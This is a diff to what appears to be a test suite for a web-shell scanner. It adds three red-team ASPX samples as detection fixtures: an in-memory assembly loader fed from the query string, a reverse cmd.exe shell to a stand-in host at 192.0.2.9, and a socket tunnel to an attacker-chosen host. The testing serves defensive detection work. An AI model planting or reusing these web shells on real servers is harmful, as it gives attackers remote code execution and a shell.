@@ -1123,6 +1123,40 @@ void Page_Load(object o, EventArgs e) {
 }
 </script>
 `],
+  ['S29R-20: asm_query_unescape.aspx', 'mamori_aspx_assembly_load', '/www/asm_query_unescape.aspx', `<%@ Page Language="C#" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  System.Reflection.Assembly.Load(Convert.FromBase64String(Uri.UnescapeDataString(Request.Url.Query.TrimStart('?')))).CreateInstance("U").Equals(this);
+}
+</script>
+`],
+  ['S29R-36: sock_rev_reflect.aspx', 'mamori_aspx_socket_shell', '/www/sock_rev_reflect.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Diagnostics" %><%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var c = new TcpClient(); c.Connect("192.0.2.9", 443); var ns = c.GetStream();
+  var rd = new StreamReader(ns); var wr = new StreamWriter(ns) { AutoFlush = true };
+  var psi = new ProcessStartInfo("cmd.exe") { UseShellExecute = false, RedirectStandardInput = 1 > 0, RedirectStandardOutput = 1 > 0 };
+  var p = Process.Start(psi);
+  p.OutputDataReceived += (a, x) => wr.WriteLine(x.Data); p.BeginOutputReadLine();
+  for (string line; (line = rd.ReadLine()) != null; ) p.StandardInput.WriteLine(line);
+}
+</script>
+`],
+  ['S29R-45: tun_files_stream.aspx', 'mamori_aspx_request_socket_tunnel', '/www/tun_files_stream.aspx', `<%@ Page Language="C#" %>
+<%@ Import Namespace="System.IO" %><%@ Import Namespace="System.Net.Sockets" %>
+<script runat="server">
+void Page_Load(object o, EventArgs e) {
+  var c = new TcpClient(); c.Connect(Request.Form["h"], int.Parse(Request.Form["p"]));
+  var ns = c.GetStream();
+  Request.Files[0].InputStream.CopyTo(ns);
+  ns.ReadTimeout = 2000;
+  var buf = new byte[65536]; int n = 0;
+  try { n = ns.Read(buf, 0, buf.Length); } catch (IOException) { }
+  Response.OutputStream.Write(buf, 0, n);
+}
+</script>
+`],
 ];
 
 describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
@@ -1174,7 +1208,7 @@ describe('scan: session 28\'s open evasions (S28R), samples of our own', () => {
     });
   }
   it('ran every case', () => {
-    assert.equal(RED_TEAM.length, 33);
+    assert.equal(RED_TEAM.length, 36);
     assert.equal(MALICIOUS.length, 26);
     assert.equal(UPLOADERS.length, 2);
     assert.equal(BENIGN.length, 23);
